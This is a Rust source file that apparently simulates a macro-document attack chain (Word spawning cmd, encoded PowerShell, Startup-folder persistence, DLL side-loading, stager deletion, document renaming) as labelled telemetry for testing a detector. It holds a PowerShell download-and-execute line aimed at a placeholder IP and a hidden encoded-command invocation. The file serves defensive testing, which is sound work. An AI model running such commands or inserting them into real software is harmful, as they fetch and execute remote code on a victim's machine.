//! The attack chain the demo detects: a macro document opened in Word runs
//! an encoded PowerShell through cmd, which drops persistence in the Startup
//! folder, side-loads a DLL from Temp, deletes its stager script and renames
//! the user's documents. Every record of a step carries the step's
//! [`Attack`] label, so tests know which alert each record should raise.

use super::boot::Machine;
use super::catalog::{self, USER};
use super::world::World;

/// One behaviour of the attack chain.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum Attack {
    /// The browser saves the lure and Word opens it (context, no alert).
    Lure,
    /// WINWORD.EXE starts cmd.exe (process_creation).
    OfficeSpawnsShell,
    /// powershell.exe with `-enc <base64 UTF-16LE>` (process_creation).
    EncodedPowerShell,
    /// An .exe and a .lnk written to the Startup folder (file_event).
    StartupFolderDrop,
    /// rundll32 maps an unsigned DLL from %TEMP% (image_load).
    DllFromTemp,
    /// PowerShell deletes its stager script from %TEMP% (file_delete).
    StagerDeleted,
    /// Documents renamed with an appended extension (file_rename).
    DocumentsRenamed,
}

impl Attack {
    /// Every behaviour that must raise an alert.
    pub const ALERTING: [Attack; 6] = [
        Attack::OfficeSpawnsShell,
        Attack::EncodedPowerShell,
        Attack::StartupFolderDrop,
        Attack::DllFromTemp,
        Attack::StagerDeleted,
        Attack::DocumentsRenamed,
    ];

    /// A short name.
    pub const fn name(self) -> &'static str {
        match self {
            Attack::Lure => "lure",
            Attack::OfficeSpawnsShell => "office_spawns_shell",
            Attack::EncodedPowerShell => "encoded_powershell",
            Attack::StartupFolderDrop => "startup_folder_drop",
            Attack::DllFromTemp => "dll_from_temp",
            Attack::StagerDeleted => "stager_deleted",
            Attack::DocumentsRenamed => "documents_renamed",
        }
    }
}

/// The script the encoded command runs.
pub const PAYLOAD: &str = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')";

/// `-EncodedCommand` form of `script`: base64 of its UTF-16LE bytes.
pub fn encode_command(script: &str) -> String {
    use base64::Engine as _;
    let bytes: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
    base64::engine::general_purpose::STANDARD.encode(bytes)
}

/// Emits one instance of the chain; `n` makes its file names unique.
pub fn chain(w: &mut World, m: &Machine, n: u64) {
    let alice =
        |w: &mut World, parent, image: &str, cmd: &str, dlls: &[&str]| w.start(Some(parent), image, cmd, USER, dlls);
    w.label = Some(Attack::Lure);
    let doc = format!(r"C:\Users\alice\Downloads\invoice_2026-11_{n}.docm");
    if let Some(chrome) = m.apps.first() {
        w.write_new(chrome, &doc);
    }
    let cmd = format!(r#""{}" /n "{doc}""#, catalog::WINWORD);
    let word = alice(w, &m.explorer, catalog::WINWORD, &cmd, &catalog::SYSTEM_DLLS[..10]);
    w.open(&word, &doc);

    w.label = Some(Attack::OfficeSpawnsShell);
    let enc = encode_command(PAYLOAD);
    let cmd_line = format!(r#"C:\Windows\System32\cmd.exe /c powershell.exe -nop -w hidden -enc {enc}"#);
    let shell = alice(w, &word, catalog::CMD, &cmd_line, &[]);

    w.label = Some(Attack::EncodedPowerShell);
    let ps_cmd = format!("powershell.exe  -nop -w hidden -enc {enc}");
    let dlls = [r"C:\Windows\System32\amsi.dll", r"C:\Windows\System32\winhttp.dll"];
    let ps = alice(w, &shell, catalog::POWERSHELL, &ps_cmd, &dlls);
    let stager = format!(r"{}\a{n}.ps1", catalog::TEMP);
    let dll = format!(r"{}\stage2_{n}.dll", catalog::TEMP);
    w.write_new(&ps, &stager);
    w.write_new(&ps, &dll);

    w.label = Some(Attack::StartupFolderDrop);
    w.write_new(&ps, &format!(r"{}\OneDriveUpdate{n}.exe", catalog::STARTUP));
    w.write_new(&ps, &format!(r"{}\OneDriveUpdate{n}.lnk", catalog::STARTUP));

    w.label = Some(Attack::DllFromTemp);
    let rundll = alice(w, &ps, catalog::RUNDLL32, &format!(r"rundll32.exe {dll},DllRegisterServer"), &[]);
    w.load(&rundll, &dll, catalog::signing_of(&dll));

    w.label = Some(Attack::StagerDeleted);
    w.delete(&ps, &stager);

    w.label = Some(Attack::DocumentsRenamed);
    for d in catalog::DOCUMENTS {
        w.rename(&ps, d, &format!("{d}.vigil{n}"));
    }

    w.label = None;
    w.exit(&ps);
    w.exit(&shell);
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn encoded_command_is_base64_of_utf16le() {
        assert_eq!(encode_command(""), "");
        // What `[Convert]::ToBase64String([Text.Encoding]::Unicode.GetBytes("dir"))` gives.
        assert_eq!(encode_command("dir"), "ZABpAHIA");
    }
}
